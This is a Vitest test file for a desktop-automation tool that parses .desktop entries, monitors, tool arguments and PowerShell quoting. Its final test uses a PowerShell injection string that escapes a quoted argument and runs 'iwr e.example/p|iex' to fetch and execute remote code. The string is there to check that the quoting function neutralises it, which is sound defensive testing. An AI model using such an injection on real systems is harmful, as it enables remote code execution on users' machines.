import { mkdtemp, mkdir, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  AppNotFoundError,
  execToArgv,
  findDesktopEntry,
  loadDesktopEntries,
  parseDesktopEntry,
  powerShellQuote,
  type DesktopEntry,
} from '../../src-main/device/apps';
import { splitArgs } from '../../src-main/device/split-args';
import { ToolArgs } from '../../src-main/device/contract';
import { parseMonitors, pickDisplay } from '../../src-main/device/displays';
import { toolTimeoutMs } from '../../src-main/device/timeouts';

describe('splitArgs', () => {
  it('splits like a shell without expanding anything', () => {
    expect(splitArgs('-title "hello there" --x=\'a b\' plain\\ space $HOME')).toEqual([
      '-title',
      'hello there',
      '--x=a b',
      'plain space',
      '$HOME',
    ]);
    expect(splitArgs('  ')).toEqual([]);
    expect(splitArgs('""')).toEqual(['']);
    expect(splitArgs('"a \\"q\\" b"')).toEqual(['a "q" b']);
  });

  it('refuses an unbalanced quote', () => {
    expect(() => splitArgs('"open')).toThrow(/unbalanced " quote/);
  });
});

const MOUSEPAD = `[Desktop Entry]
Name=Mousepad
Name[de]=Mausblock
GenericName=Text Editor
Exec=mousepad %U
Icon=org.xfce.mousepad
Type=Application
Terminal=false

[Desktop Action window]
Name=New Window
Exec=mousepad --new-window
`;

describe('desktop entries', () => {
  it('reads the [Desktop Entry] group only', () => {
    expect(parseDesktopEntry(MOUSEPAD, 'org.xfce.mousepad', '/x.desktop')).toEqual({
      id: 'org.xfce.mousepad',
      path: '/x.desktop',
      name: 'Mousepad',
      genericName: 'Text Editor',
      exec: 'mousepad %U',
      icon: 'org.xfce.mousepad',
      terminal: false,
      listed: true,
    });
    expect(parseDesktopEntry('[Desktop Entry]\nName=x\n', 'x', '/x')).toBeNull();
    expect(parseDesktopEntry('[Desktop Entry]\nExec=x\nNoDisplay=true\n', 'x', '/x')?.listed).toBe(false);
  });

  it('turns Exec lines into argv with the arguments in place of the field codes', () => {
    expect(execToArgv('mousepad %U', ['/tmp/a.txt'])).toEqual(['mousepad', '/tmp/a.txt']);
    expect(execToArgv('/usr/bin/chromium %U', [])).toEqual(['/usr/bin/chromium']);
    expect(execToArgv('xterm', ['-e', 'top'])).toEqual(['xterm', '-e', 'top']);
    expect(execToArgv('"/opt/My App/run" --name %c %i %f', ['f'])).toEqual(['/opt/My App/run', '--name', 'f']);
    expect(execToArgv('app --percent=100%%', [])).toEqual(['app', '--percent=100%']);
  });

  it('expands %c, %k and %i from the entry', () => {
    const fields = { name: 'My Editor', path: '/usr/share/applications/my.desktop', icon: 'accessories-text-editor' };
    expect(execToArgv('edit --class=%c %i --from %k %f', ['a.txt'], fields)).toEqual([
      'edit',
      '--class=My Editor',
      '--icon',
      'accessories-text-editor',
      '--from',
      '/usr/share/applications/my.desktop',
      'a.txt',
    ]);
    // No icon: %i gives no words at all, not an empty one.
    expect(execToArgv('edit %i %F', ['a', 'b'], { ...fields, icon: '' })).toEqual(['edit', 'a', 'b']);
    // %c as a word of its own keeps a name with spaces as one word.
    expect(execToArgv('edit --title %c', [], fields)).toEqual(['edit', '--title', 'My Editor']);
  });

  it('reads %% and the field codes in one pass, inside words too', () => {
    // %%f is a percent sign and an f, not a field code.
    expect(execToArgv('printf %%f %f', ['a'])).toEqual(['printf', '%f', 'a']);
    expect(execToArgv('app 100%%d %%%f', ['x'])).toEqual(['app', '100%d', '%x']);
    expect(execToArgv('app --file=%f', ['/tmp/a b.txt'])).toEqual(['app', '--file=/tmp/a b.txt']);
    expect(execToArgv('app --file=%u', [])).toEqual(['app', '--file=']);
    // Only the first file code takes the files; inside a word it takes the first, the others follow.
    expect(execToArgv('app --files=%U --again=%f', ['a', 'b'])).toEqual(['app', '--files=a', 'b', '--again=']);
    expect(execToArgv('app %F --x=%u', ['a', 'b'])).toEqual(['app', 'a', 'b', '--x=']);
    // Deprecated codes go, inside a word or as one; a % before anything but a letter stays.
    expect(execToArgv('app %d %D -n%N%v %m 50% %%', [])).toEqual(['app', '-n', '50%', '%']);
  });

  it('reads the string escapes of the file before the quoting of the Exec line, as the spec and GLib do', () => {
    // As Wine writes its entries: four backslashes in the file are one in the argument.
    const wine = String.raw`[Desktop Entry]
Name=Game\sLauncher
Exec=env WINEPREFIX="/home/u/.wine" wine C:\\\\windows\\\\command\\\\start.exe /Unix /home/u/Game.lnk
Type=Application
`;
    const parsed = parseDesktopEntry(wine, 'wine-game', '/x.desktop');
    expect(parsed?.name).toBe('Game Launcher');
    expect(execToArgv(parsed?.exec ?? '', [])).toEqual([
      'env',
      'WINEPREFIX=/home/u/.wine',
      'wine',
      String.raw`C:\windows\command\start.exe`,
      '/Unix',
      '/home/u/Game.lnk',
    ]);
    // The spec's own example: a literal backslash inside a quoted argument takes four in the file.
    const quoted = parseDesktopEntry(String.raw`[Desktop Entry]
Exec=sh -c "printf %%s \\\\ end"
`, 'q', '/q.desktop');
    expect(execToArgv(quoted?.exec ?? '', [])).toEqual(['sh', '-c', String.raw`printf %s \ end`]);
  });

  const entry = (id: string, name: string, generic: string, exec: string, terminal = false): DesktopEntry => ({
    id,
    path: `/apps/${id}.desktop`,
    name,
    genericName: generic,
    exec,
    icon: '',
    terminal,
    listed: true,
  });
  const entries = [
    entry('org.xfce.mousepad', 'Mousepad', 'Text Editor', 'mousepad %U'),
    entry('vim', 'Vim', 'Text Editor', 'vim %F', true),
    entry('chromium', 'Chromium Web Browser', 'Web Browser', '/usr/bin/chromium %U'),
    entry('a-editor', 'Editor', 'Text Editor', 'a'),
    entry('b-editor', 'Editor', 'Text Editor', 'b'),
  ];

  it('finds an application by id, id tail, name, generic name or program', () => {
    expect(findDesktopEntry(entries, 'org.xfce.mousepad.desktop')?.id).toBe('org.xfce.mousepad');
    expect(findDesktopEntry(entries, 'MOUSEPAD')?.id).toBe('org.xfce.mousepad');
    expect(findDesktopEntry(entries, 'chromium web browser')?.id).toBe('chromium');
    expect(findDesktopEntry(entries, 'Web Browser')?.id).toBe('chromium');
    expect(findDesktopEntry(entries, 'nothing')).toBeNull();
  });

  it('says when a name is ambiguous, preferring entries that need no terminal', () => {
    expect(() => findDesktopEntry(entries, 'Text Editor')).toThrow(AppNotFoundError);
    expect(() => findDesktopEntry(entries, 'Editor')).toThrow(/several applications match "Editor": Editor \(a-editor\), Editor \(b-editor\)/);
    expect(findDesktopEntry(entries.slice(0, 2), 'Text Editor')?.id).toBe('org.xfce.mousepad');
  });

  describe('on disk', () => {
    let root: string;
    beforeAll(async () => {
      root = await mkdtemp(join(tmpdir(), 'deskhand-apps-'));
      await mkdir(join(root, 'home', 'kde'), { recursive: true });
      await mkdir(join(root, 'system'), { recursive: true });
      await writeFile(join(root, 'home', 'org.xfce.mousepad.desktop'), MOUSEPAD.replace('mousepad %U', 'mousepad --mine %U'));
      await writeFile(join(root, 'system', 'org.xfce.mousepad.desktop'), MOUSEPAD);
      await writeFile(join(root, 'home', 'kde', 'kate.desktop'), '[Desktop Entry]\nName=Kate\nExec=kate\n');
      await writeFile(join(root, 'system', 'broken.desktop'), 'garbage');
    });
    afterAll(async () => {
      await rm(root, { recursive: true, force: true });
    });

    it('loads entries; an earlier directory hides the same id in a later one; subfolders make ids', async () => {
      const loaded = await loadDesktopEntries([join(root, 'home'), join(root, 'system'), join(root, 'missing')]);
      expect(loaded.map((e) => [e.id, e.exec])).toEqual([
        ['kde-kate', 'kate'],
        ['org.xfce.mousepad', 'mousepad --mine %U'],
      ]);
    });
  });
});

describe('displays', () => {
  it('parses xrandr --listactivemonitors', () => {
    const out = `Monitors: 3
 0: +*eDP-1 1920/344x1080/194+0+0  eDP-1
 1: +HDMI-1 2560/597x1440/336+1920+0  HDMI-1
 2: left 640/169x800/212+3840+-200  none
`;
    expect(parseMonitors(out)).toEqual([
      { index: 0, name: 'eDP-1', primary: true, bounds: { x: 0, y: 0, width: 1920, height: 1080 } },
      { index: 1, name: 'HDMI-1', primary: false, bounds: { x: 1920, y: 0, width: 2560, height: 1440 } },
      { index: 2, name: 'left', primary: false, bounds: { x: 3840, y: -200, width: 640, height: 800 } },
    ]);
  });

  it('makes the first monitor primary when none is', () => {
    expect(parseMonitors('Monitors: 1\n 0: +screen 1280/339x800/212+0+0  screen\n')[0]?.primary).toBe(true);
    expect(parseMonitors('garbage')).toEqual([]);
  });

  it('picks a display by index or names the ones there are', () => {
    const displays = parseMonitors(' 0: +*a 100/1x50/1+0+0  a\n 1: b 100/1x50/1+100+0  b\n');
    expect(pickDisplay(displays, 1).name).toBe('b');
    expect(() => pickDisplay(displays, 2)).toThrow(/there is no display 2; displays: 0 \(a, 100x50\), 1 \(b, 100x50\)/);
  });
});

describe('contract additions', () => {
  it('accepts the new tools\' arguments', () => {
    expect(ToolArgs.launch_app.parse({ name: 'mousepad', args: ['/tmp/a'] })).toEqual({ name: 'mousepad', args: ['/tmp/a'] });
    expect(ToolArgs.launch_app.parse({ name: 'xterm', args: '-e top' }).args).toBe('-e top');
    expect(ToolArgs.launch_app.safeParse({ name: '' }).success).toBe(false);
    expect(ToolArgs.focus_window.parse({ id: '0x01' })).toEqual({ id: '0x01' });
    expect(ToolArgs.screenshot.parse({ display: 1 })).toEqual({ display: 1 });
    expect(ToolArgs.type_text.parse({ text: 'a', method: 'paste' }).method).toBe('paste');
    expect(ToolArgs.type_text.safeParse({ text: 'a', method: 'telepathy' }).success).toBe(false);
  });

  it('gives launch_app and execute_command time budgets', () => {
    expect(toolTimeoutMs('launch_app', { name: 'x' })).toBeGreaterThan(15_000);
    expect(toolTimeoutMs('execute_command', { command: 'x' })).toBe(70_000);
    expect(toolTimeoutMs('execute_command', { command: 'x', timeout_s: 5 })).toBe(15_000);
  });
});

describe('powerShellQuote (launch_app on Windows)', () => {
  it('doubles every quote character PowerShell ends a single-quoted string at', () => {
    expect(powerShellQuote('notes.txt')).toBe("'notes.txt'");
    expect(powerShellQuote("it's")).toBe("'it''s'");
    // The typographic quotes close a PowerShell string too: left single they would end it early.
    expect(powerShellQuote('a\u2019);iwr e.example/p|iex;(\u2019')).toBe("'a\u2019\u2019);iwr e.example/p|iex;(\u2019\u2019'");
    for (const quote of ['\u2018', '\u2019', '\u201A', '\u201B', "'"]) {
      const quoted = powerShellQuote(`x${quote}y`);
      // Inside the outer quotes every quote character comes in pairs: none can end the string.
      const inner = quoted.slice(1, -1);
      expect(inner.replace(new RegExp(`${quote}${quote}`, 'g'), '')).not.toContain(quote);
    }
  });
});
